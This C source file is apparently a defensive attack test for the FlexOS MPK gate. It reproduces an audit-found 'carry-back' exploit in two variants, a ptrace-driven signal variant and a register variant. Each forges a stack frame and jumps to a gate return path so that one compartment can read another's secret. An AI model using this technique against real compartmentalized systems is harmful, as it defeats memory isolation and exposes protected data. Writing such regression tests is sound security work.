/*
 * attack --carry-back signal|register (limit 11 of docs/threat-model.md;
 * found by an audit): the private-stack gate has two ways back, the
 * register path's and the carry path's (stack arguments, sret), and the
 * carry path's pops two more words from its caller's stack. Each now takes
 * only a call that came in by its own path (MPK_G_CARRY_CALLER on the
 * gate page's list of callers); a jump to the other gives the report, 134.
 *
 * signal: in a child of fork() (the filter off: it is traced), lib1
 * installs a handler for SIGUSR1. The parent, its tracer, stops app at the
 * gate's first instruction (a breakpoint) and delivers SIGUSR1 there: the
 * delivery stub calls lib1's handler from the signal stack, which every
 * compartment may write, since app was in the gate's code. The handler
 * writes a frame of its choosing where the gate keeps app's stack pointer
 * (the signal stack: callee-saved registers, no carry, the address of its
 * code) and jumps to the carry path's way back. Before (checked with the
 * previous gate.S), that way back took app off the list and returned to
 * lib1's code with app's PKRU, which read app's secret (status 1).
 *
 * register: app calls lib1 with stack arguments (the carry path), and lib1
 * jumps to the register path's way back, which would return through the
 * carry the carry path keeps on app's stack. Before, that was a fault at
 * the carry taken for an address (123).
 */
#define _GNU_SOURCE 1
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "../../backends/mpk/mpk.h"
#include "attacklib.h"
#include "carryback.h"
#include "evil.h"

extern char flexos__mpk_gate_carry_reopen_checked[];
extern char flexos__mpk_gate_reopen_checked[];

/* What lib1 reads, with its own PKRU: shared. */
static struct {
	uintptr_t secret;
	uint32_t app_pkru;
	const char *way_back;
	uintptr_t frame[8];
} cb FLEXOS_SHARED;

/*
 * The way back of the gate's path whose opening of the page is at
 * `reopen`: the instruction after its call of the callee (call *%r11;
 * fwait), found as an attacker would, by its bytes.
 */
static const char *way_back(uintptr_t reopen)
{
	for (uintptr_t a = reopen - 4; a > reopen - 96; a--) {
		const volatile unsigned char *p = (const volatile unsigned char *)a;
		if (p[0] == 0x41 && p[1] == 0xff && p[2] == 0xd3 && p[3] == 0x9b)
			return (const char *)(a + 3);
	}
	return NULL;
}

static void cb_evil(void)
{
	evil_ran("carry-back", cb.secret, cb.app_pkru);
}

/* lib1's handler, called by the delivery stub from the signal stack. */
static void cb_handler(int sig)
{
	struct mpk_gate_page *gp = flexos__mpk_thread.gp;
	unsigned mark = gp->ids[gp->depth - 1];
	uintptr_t *app_sp = (uintptr_t *)gp->sp[mark & (MPK_SLOTS - 1)];

	(void)sig;
	printf("carry-back: in lib1's handler, called for compartment %u (mark %#x) from "
	       "%p: lib1 writes its frame there and jumps to the carry path's way back\n",
	       mark & (MPK_SLOTS - 1), mark, (void *)app_sp);
	fflush(stdout);
	for (int i = 0; i < 6; i++)
		app_sp[i] = 0; /* callee-saved registers */
	app_sp[6] = 0;         /* the carry: no sret result to copy */
	app_sp[7] = 0;         /* the sret pointer */
	app_sp[8] = (uintptr_t)cb_evil;
	memset(cb.frame, 0, sizeof(cb.frame)); /* the callee's frame (rbx): nothing to copy */
	__asm__ volatile("movq %0, %%rbx\n\t"
			 "jmp *%1"
			 :
			 : "r"(cb.frame), "r"(cb.way_back)
			 : "rbx", "memory");
	__builtin_unreachable();
}

/* Run by lib1 (lib1_call: cb(x + 1) + 1). */
static long cb_install(long x)
{
	struct sigaction sa;

	(void)x;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = cb_handler;
	return sigaction(SIGUSR1, &sa, NULL);
}

static long cb_nothing(long x)
{
	return x;
}

static void child(void)
{
	long r = 0;

	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	flexos_gate_r(lib1, r, lib1_call, cb_install, 0);
	if (r != 1)
		_exit(2);
	raise(SIGSTOP); /* the tracer arms its breakpoint now */
	flexos_gate_r(lib1, r, lib1_call, cb_nothing, 0);
	printf("carry-back: app's call came back (%ld) after lib1's handler: FAIL\n", r);
	fflush(stdout);
	_exit(1);
}

static int carry_back_signal(void)
{
	uintptr_t insn = (uintptr_t)&flexos__backend_gate;
	long code = 0;
	int status, armed = 0, hit = 0;

	cb.way_back = way_back((uintptr_t)flexos__mpk_gate_carry_reopen_checked);
	if (!cb.way_back)
		return 2;
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		return 2;
	if (pid == 0)
		child();
	for (;;) {
		if (waitpid(pid, &status, 0) < 0 || WIFEXITED(status) || WIFSIGNALED(status))
			break;
		int sig = WSTOPSIG(status);
		struct user_regs_struct regs;
		ptrace(PTRACE_GETREGS, pid, NULL, &regs);
		if (sig == SIGSTOP && !armed) {
			/* app's SIGSTOP: the breakpoint at the gate's first instruction. */
			code = ptrace(PTRACE_PEEKTEXT, pid, (void *)insn, NULL);
			ptrace(PTRACE_POKETEXT, pid, (void *)insn,
			       (void *)((code & ~0xffL) | 0xcc));
			armed = 1;
			sig = 0;
		} else if (sig == SIGTRAP && armed && !hit && regs.rip == insn + 1) {
			printf("carry-back: app stopped at the gate's first instruction; SIGUSR1 "
			       "delivered there\n");
			fflush(stdout);
			ptrace(PTRACE_POKETEXT, pid, (void *)insn, (void *)code);
			regs.rip = insn;
			ptrace(PTRACE_SETREGS, pid, NULL, &regs);
			hit = 1;
			sig = SIGUSR1;
		} else if (sig == SIGSTOP || sig == SIGTRAP) {
			sig = 0;
		}
		ptrace(PTRACE_CONT, pid, NULL, (void *)(long)sig);
	}
	if (!hit) {
		printf("carry-back: the breakpoint was never reached: FAIL\n");
		return 2;
	}
	if (WIFSIGNALED(status))
		return 128 + WTERMSIG(status);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
}

/* Run by lib1, called by the carry path (lib1_call8); never returns. */
static long cb_register_back(long x)
{
	(void)x;
	memset(cb.frame, 0, sizeof(cb.frame)); /* the entry's flags: none */
	__asm__ volatile("movq %0, %%rsp\n\t"
			 "jmp *%1"
			 :
			 : "r"(cb.frame), "r"(cb.way_back)
			 : "memory");
	__builtin_unreachable();
}

static int carry_back_register(void)
{
	long r = 0;

	cb.way_back = way_back((uintptr_t)flexos__mpk_gate_reopen_checked);
	if (!cb.way_back)
		return 2;
	printf("carry-back: app calls lib1 with stack arguments; lib1 jumps to the register "
	       "path's way back\n");
	fflush(stdout);
	flexos_gate_r(lib1, r, lib1_call8, cb_register_back, 0, 0, 0, 0, 0, 0, 0);
	printf("carry-back: lib1 came back (%ld): FAIL\n", r);
	return 1;
}

int carry_back(const char *how, uintptr_t app_secret)
{
	cb.secret = app_secret;
	cb.app_pkru = flexos__mpk_rdpkru();
	if (!strcmp(how, "signal"))
		return carry_back_signal();
	if (!strcmp(how, "register"))
		return carry_back_register();
	return 2;
}
